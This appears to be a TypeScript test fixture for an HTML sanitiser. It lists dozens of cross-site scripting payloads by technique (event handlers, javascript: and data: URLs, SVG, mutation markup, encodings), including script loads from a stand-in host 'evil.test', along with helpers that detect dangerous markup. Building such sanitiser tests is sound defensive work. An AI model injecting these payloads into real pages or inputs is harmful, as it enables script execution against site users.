import { parseDocument } from 'htmlparser2'
import { ELEMENTS } from '../../src/kernel/text/markup.ts'

/** A text that is repeated, perhaps behind a beginning and before an end, to make one of any length. */
export type Pattern = { head?: string; unit: string; tail?: string }

/** Texts that have made readers slow: tags, entities, marks to be sorted, and what makes patterns try again and again. */
export const PATTERNS: Pattern[] = [
  { unit: '<a>' },
  { unit: '<' },
  { unit: '&amp;' },
  { unit: '&' },
  { head: 'a', unit: '\u0301\u0323' },
  { unit: '<b><i>' },
  { unit: '</p>' },
  { head: '<a title=', unit: '"' },
  { unit: '%f0' },
  { unit: '1,' },
  { unit: '1', tail: 'x' },
  { unit: '-' },
  { head: 'free', unit: '\u00a0', tail: 'x' },
  { head: 'x', unit: ' ', tail: 'x' },
  { unit: '\n' },
  { unit: '<!--' },
  { unit: '<script>' },
  { unit: 'x,' },
  { head: 'http://', unit: 'a.', tail: ' ' },
  { head: 'mailto:a@', unit: 'a-', tail: ' ' },
]

/** A text of a pattern, as long as it can be within so many characters. */
export const repeat = ({ head = '', unit, tail = '' }: Pattern, characters: number): string =>
  head + unit.repeat(Math.max(1, Math.floor((characters - head.length - tail.length) / unit.length))) + tail

/** Attempts to have a browser run `alert(1)`, by technique; `{}` in a line of URLs stands for the attribute. */
export const VECTORS: Record<string, string[]> = {
  'script elements': lines(`
    <script>alert(1)</script>
    <ScRiPt >alert(1)</ScRiPt >
    <script src=https://evil.test/a.js></script>
    <script src=//evil.test/a.js async defer></script>
    <script type=module>import('https://evil.test/a.js')</script>
    <script/x>alert(1)</script/y>
    <<script>alert(1)//<</script>
    <scr<script>ipt>alert(1)</scr</script>ipt>
    <script>alert(1)
    </script><script>alert(1)</script>
    <script>/*<p>*/alert(1)//</p></script>
    <script type="application/ld+json">{}</script><script>alert(1)</script>
    <script language=vbscript>MsgBox 1</script>
    <svg:script>alert(1)</svg:script>`),
  'event handlers': lines(`
    <img src=x onerror=alert(1)>
    <img src=x OnErRoR = "alert(1)">
    <img/src/onerror=alert(1)>
    <img src="x"onerror="alert(1)">
    <img src=x onerror=alert(1)//
    <p onclick=alert(1)>x</p>
    <p/onmouseover=alert(1)>x
    <b onpointerrawupdate='alert(1)'>x</b>
    <details open ontoggle=alert(1)><summary>x</summary></details>
    <a href=x onfocus=alert(1) autofocus tabindex=1>x</a>
    <body onload=alert(1) onpageshow=alert(1)>
    <input onfocus=alert(1) autofocus>
    <video src=x onerror=alert(1)></video>
    <audio><source onerror=alert(1)></audio>
    <marquee onstart=alert(1)>x</marquee>
    <div onanimationstart=alert(1) style=animation-name:x>x</div>
    <x onclick=alert(1)>x</x>
    <x-y onbeforematch=alert(1) hidden=until-found>x</x-y>
    <li value=1 onwheel=alert(1)>x
    <img title='"onerror=alert(1) src=x' src=x>
    <b title="'><img src=x onerror=alert(1)>">x</b>
    <a title=\`x onclick=alert(1)\`>x</a>`),
  'URLs that run': lines(`
    javascript:alert(1)
    JaVaScRiPt:alert(1)
    javascript://evil.test/%0aalert(1)
    javascript&colon;alert(1)
    javascript&#58;alert(1)
    javascript&#x0003A;alert(1)
    &#106;avascript:alert(1)
    &#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74(1)
    &#0000106&#0000097vascript:alert(1)
    java&Tab;script:alert(1)
    java&NewLine;script:alert(1)
    java&#9;script&#10;:alert(1)
    &#1;javascript:alert(1)
    &#x1f; javascript:alert(1)
    java\u0000script:alert(1)
    \u0001\u0002javascript:alert(1)
    \u00a0javascript:alert(1)
    javascript\u200b:alert(1)
    vbscript:msgbox(1)
    VbScRiPt&colon;msgbox(1)
    livescript:alert(1)
    mocha:alert(1)
    data:text/html,<script>alert(1)</script>
    data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==
    data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>
    &#100;ata:text/html,x
    blob:https://evil.test/1
    filesystem:https://evil.test/x
    view-source:javascript:alert(1)
    feed:javascript:alert(1)
    jar:https://evil.test/a.jar!/x
    file:///etc/passwd`),
  'svg and math': lines(`
    <svg onload=alert(1)>
    <svg/onload=alert(1)//
    <svg><script>alert(1)</script></svg>
    <svg><script href=data:,alert(1) /></svg>
    <svg><a xlink:href="javascript:alert(1)"><text y=9>x</text></a></svg>
    <svg><use href="data:image/svg+xml,x#y"/></svg>
    <svg><animate onbegin=alert(1) attributeName=x dur=1s>
    <svg><set attributeName=href to=javascript:alert(1) /></svg>
    <svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>
    <math href=javascript:alert(1)>x</math>
    <math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>
    <math><annotation-xml encoding=text/html><img src=x onerror=alert(1)></annotation-xml></math>`),
  'markup that changes when it is read again': lines(`
    <svg></p><style><a id="</style><img src=x onerror=alert(1)>">
    <math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(1)&gt;">
    <noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>
    <listing>&lt;img src=x onerror=alert(1)&gt;</listing>
    <textarea><img title="</textarea><img src=x onerror=alert(1)>">
    <xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>
    <title><b title="</title><img src=x onerror=alert(1)>"></title>
    <plaintext><img src=x onerror=alert(1)>
    <!--><img src=x onerror=alert(1)>-->
    <!-- --!><img src=x onerror=alert(1)> -->
    <!--[if IE]><script>alert(1)</script><![endif]-->
    <![CDATA[<img src=x onerror=alert(1)>]]>
    <?xml-stylesheet href="javascript:alert(1)"?><img src=x onerror=alert(1)>
    <table><td><style></table><img src=x onerror=alert(1)></style>
    <select><option><style></select><img src=x onerror=alert(1)></style>
    <form><form><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img src=x onerror=alert(1)>">`),
  'frames, forms and whole documents': lines(`
    <template><script>alert(1)</script></template>
    <template shadowrootmode=open><img src=x onerror=alert(1)></template>
    <iframe srcdoc="<script>alert(1)</script>"></iframe>
    <iframe srcdoc="&lt;img src=x onerror=alert(1)&gt;"></iframe>
    <iframe src=javascript:alert(1)>
    <frameset><frame src=javascript:alert(1)></frameset>
    <object data=javascript:alert(1)></object>
    <object><param name=src value=javascript:alert(1)></object>
    <embed src=data:text/html,x code=x>
    <applet code=x archive=https://evil.test/a.jar></applet>
    <meta http-equiv=refresh content="0;url=javascript:alert(1)">
    <meta http-equiv="Set-Cookie" content=a=b>
    <base href=https://evil.test/>
    <link rel=stylesheet href=https://evil.test/a.css>
    <link rel=import href=https://evil.test/a.html>
    <form action=javascript:alert(1)><button>x</button></form>
    <form id=f></form><button form=f formaction=javascript:alert(1)>x</button>
    <isindex action=javascript:alert(1) type=image>
    <portal src=https://evil.test/></portal>`),
  'style sheets': lines(`
    <style>@import 'https://evil.test/a.css';</style>
    <style>body{background:url(javascript:alert(1))}</style>
    <p style="background:url('javascript:alert(1)')">x</p>
    <p style=width:expression(alert(1))>x</p>
    <p style="-moz-binding:url(https://evil.test/x.xml#y)">x</p>
    <p style="behavior:url(x.htc)">x</p>
    <p style="position:fixed;inset:0">x</p>
    <table background=javascript:alert(1)><tr><td>x</td></tr></table>`),
  'encodings and broken tags': lines(`
    &lt;script&gt;alert(1)&lt;/script&gt;
    &amp;lt;img src=x onerror=alert(1)&amp;gt;
    &#60;img src=x onerror=alert(1)&#62;
    &#x3c;svg onload=alert(1)&#x3e;
    %3Cscript%3Ealert(1)%3C/script%3E
    \\u003cscript\\u003ealert(1)\\u003c/script\\u003e
    +ADw-script+AD4-alert(1)+ADw-/script+AD4-
    \uff1cscript\uff1ealert(1)\uff1c/script\uff1e
    <scr\u0000ipt>alert(1)</scr\u0000ipt>
    <img src=x on\u0000error=alert(1)>
    <\u0000img src=x onerror=alert(1)>
    <img\u000csrc=x\u000conerror=alert(1)>
    <<<img src=x onerror=alert(1)>>>
    <b <img src=x onerror=alert(1)>
    <b "<img src=x onerror=alert(1)>">x</b>
    <img src=x:alert(1) onerror=eval(src)
    </p><img src=x onerror=alert(1)><p>
    </script><img src=x onerror=alert(1)>
    --><img src=x onerror=alert(1)><!--
    "><img src=x onerror=alert(1)>
    '-alert(1)-'
    {{constructor.constructor('alert(1)')()}}
    \${alert(1)}
    ]]><img src=x onerror=alert(1)>`),
}

function lines(text: string): string[] {
  return text
    .trim()
    .split('\n')
    .map((line) => line.replace(/^ +/, ''))
}

export const URLS = VECTORS['URLs that run']!
export const SCRIPTS = Object.values(VECTORS)
  .flat()
  .filter((vector) => !URLS.includes(vector))

/** A URL in the places where HTML has URLs. */
const embed = (url: string) => [
  url,
  `<a href="${url}">x</a>`,
  `<a href='${url}'>x</a>`,
  `<img src="${url}">`,
  `<blockquote cite="${url}">x</blockquote>`,
  `<img srcset="${url} 1x" src=/x.png>`,
  `<svg><a xlink:href="${url}">x</a></svg>`,
]
/** Every vector by itself, and inside of other text. */
export const ATTACKS = [...SCRIPTS, ...URLS.map((url) => embed(url).join('\n'))]
/** A text as part of a longer one. */
export const wrap = (text: string) => `before\n${text}\n\n<p>after ${text}`

/** An element as a parser sees it that knows nothing of the sanitiser's options. */
export type Element = { name: string; attribs: Record<string, string>; children: Element[]; data?: string }

/** All elements of a text read as HTML, outer ones first. */
export const elementsOf = (html: string): Element[] => flatten(parseDocument(html).children as never)

const flatten = (nodes: Element[]): Element[] =>
  nodes.flatMap((node) => (node.attribs ? [node, ...flatten(node.children)] : []))

const LOADING = /^(src|href|cite|action|formaction|data|poster|background|srcset|xlink:href|ping|longdesc)$/
const RUNS =
  /^(script|style|iframe|frame|object|embed|applet|base|meta|link|form|input|button|textarea|select|svg|math|template|noscript|xmp|title|plaintext|audio|video|isindex|marquee)$/

/** What a browser would run of a text that is put into a page; undefined where there is nothing. */
export function findDanger(html: string): string | undefined {
  for (const { name, attribs } of elementsOf(html)) {
    if (RUNS.test(name) || !/^[a-z][a-z0-9]*$/.test(name)) return `<${name}>`
    for (const [key, value] of Object.entries(attribs)) {
      if (!/^[a-z]+$/.test(key) || /^(on.*|style|srcdoc|is|slot)$/.test(key)) return `<${name} ${key}>`
      if (LOADING.test(key) && !isSafe(value)) return `<${name} ${key}="${value}">`
    }
  }
  return undefined
}

/** What of a plain text is markup to a browser that is given it as HTML; undefined where all of it is text or does nothing. */
export function findMarkup(text: string): string | undefined {
  if (/<!--|<\/?script([\s/>]|$)/i.test(text)) return text
  const found = elementsOf(text).find(
    ({ name, attribs }) =>
      (name.length > 1 && ELEMENTS.has(name)) ||
      /^[\w.]+[-:][a-z]/.test(name) ||
      Object.entries(attribs).some(
        ([key, value]) => value !== '' && /^on|^(style|href|src)$|^[@:]|^\w+[-:]/.test(key),
      ),
  )
  return found && `<${found.name}>`
}

/** Judged as browsers read URLs: what they can not parse leads nowhere. */
export function isSafe(url: string): boolean {
  const base = 'https://x.test'
  return (
    !URL.canParse(url, base) || ['http:', 'https:', 'mailto:', 'tel:'].includes(new URL(url, base).protocol)
  )
}
